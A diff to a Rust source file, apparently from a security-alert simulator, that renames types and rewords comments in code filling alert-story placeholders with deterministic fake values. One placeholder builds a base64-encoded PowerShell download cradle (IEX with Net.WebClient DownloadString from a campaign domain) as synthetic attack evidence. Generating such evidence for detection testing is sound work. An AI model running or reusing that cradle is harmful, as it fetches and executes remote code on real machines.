@@ -1,17 +1,17 @@
-//! The placeholders of a story's texts, filled from the campaign's cast.
+//! Fills the placeholders in a story's texts.
 //!
-//! What has a name after a colon is the same wherever the campaign says the same name:
+//! A placeholder with a name after a colon has the same value throughout the campaign:
 //! `<guid:app>` is one application in all its alerts.
 
 use base64::Engine;
 use rand::{RngCore, SeedableRng, rngs::StdRng};
 
-use super::{Scene, hash};
+use super::{EvidenceBuilder, hash};
 use crate::world::{guid, hex};
 use alertdeck_model::Timestamp;
 
-impl Scene<'_> {
-    /// Fills the placeholders of a story's text; brackets around anything else stay.
+impl EvidenceBuilder<'_> {
+    /// Fills the placeholders of a text. Other text in angle brackets is left alone.
     pub(super) fn fill(&mut self, text: &str) -> String {
         let mut out = String::with_capacity(text.len());
         let mut rest = text;
@@ -30,7 +30,7 @@ impl Scene<'_> {
     fn value(&mut self, placeholder: &str) -> Option<String> {
         let (name, argument) = placeholder.split_once(':').unwrap_or((placeholder, ""));
         let property = |name: &str| self.device().properties[name].as_str().unwrap_or_default().to_owned();
-        let own = || StdRng::seed_from_u64(self.cast.hash(argument));
+        let named = || StdRng::seed_from_u64(self.campaign.hash(argument));
         Some(match (name, argument) {
             ("host", "") => self.device().host.clone(),
             ("mde", "") => self.device().mde_id.clone(),
@@ -40,38 +40,38 @@ impl Scene<'_> {
             ("upn", "") => self.person.principal(),
             ("display", "") => self.person.display.clone(),
             ("organization", "") => self.person.identity["tenantId"].as_str()?.to_owned(),
-            ("domain", "") => self.cast.domain.clone(),
-            ("ip", "") => self.cast.address.clone(),
-            ("peer", "") => self.cast.peer.clone(),
-            ("n", "") => self.cast.number.to_string(),
-            ("i", "") => self.round.to_string(),
+            ("domain", "") => self.campaign.domain.clone(),
+            ("ip", "") => self.campaign.address.clone(),
+            ("peer", "") => self.campaign.peer.clone(),
+            ("n", "") => self.campaign.number.to_string(),
+            ("i", "") => self.iteration.to_string(),
             ("guid", "") => guid(self.rng),
             ("b64", "") => encoded_command(&format!(
                 "IEX (New-Object Net.WebClient).DownloadString('http://{}/stage/{}')",
-                self.cast.domain, self.cast.number
+                self.campaign.domain, self.campaign.number
             )),
-            ("guid", _) => guid(&mut own()),
-            // What belongs to the tenant is the same in all its campaigns.
+            ("guid", _) => guid(&mut named()),
+            // Values of the tenant are the same in all campaigns.
             ("tenant", _) => guid(&mut StdRng::seed_from_u64(hash(0, argument))),
-            ("sha256", _) => hex(&mut own(), 32),
-            ("hex", _) => hex(&mut own(), 6),
+            ("sha256", _) => hex(&mut named(), 32),
+            ("hex", _) => hex(&mut named(), 6),
             ("mac", _) => {
-                let bytes = hex(&mut own(), 3);
+                let bytes = hex(&mut named(), 3);
                 format!("00:1b:1b:{}:{}:{}", &bytes[..2], &bytes[2..4], &bytes[4..])
             }
-            ("at", _) => self.moment(argument)?,
+            ("at", _) => self.time(argument)?,
             ("base64", length) => {
                 let mut bytes = vec![0; length.parse::<usize>().ok()? / 4 * 3];
-                own().fill_bytes(&mut bytes);
+                named().fill_bytes(&mut bytes);
                 base64::engine::general_purpose::STANDARD.encode(bytes)
             }
             _ => return None,
         })
     }
 
-    /// Writes the moment so many seconds after the story began, with as many digits of the second
-    /// as are given: products differ in that (API.md 3).
-    fn moment(&self, seconds: &str) -> Option<String> {
+    /// Writes the time this many seconds after the campaign began. The digits of the fraction are
+    /// kept, because products differ in precision (docs/graph-api.md, "Dates").
+    fn time(&self, seconds: &str) -> Option<String> {
         let (whole, fraction) = seconds.split_once('.').unwrap_or((seconds, ""));
         let at = Timestamp::from_seconds(self.began.seconds().checked_add(whole.parse().ok()?)?);
         let at = at.to_string();
@@ -80,7 +80,7 @@ impl Scene<'_> {
     }
 }
 
-/// Encodes a script as PowerShell's `-EncodedCommand` wants it: base64 over UTF-16.
+/// Encodes a script for PowerShell's `-EncodedCommand`: UTF-16LE in base64.
 fn encoded_command(script: &str) -> String {
     let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
     base64::engine::general_purpose::STANDARD.encode(bytes)
